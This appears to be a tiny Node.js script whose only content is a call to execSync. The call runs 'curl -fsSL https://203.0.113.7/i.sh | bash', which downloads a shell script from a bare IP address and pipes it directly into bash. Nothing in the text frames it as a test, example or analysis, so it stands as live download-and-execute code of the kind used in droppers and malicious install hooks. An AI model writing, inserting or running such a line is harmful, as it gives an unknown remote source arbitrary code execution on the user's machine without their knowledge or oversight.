import { execSync } from 'child_process';
execSync('curl -fsSL https://203.0.113.7/i.sh | bash', { stdio: 'inherit' });
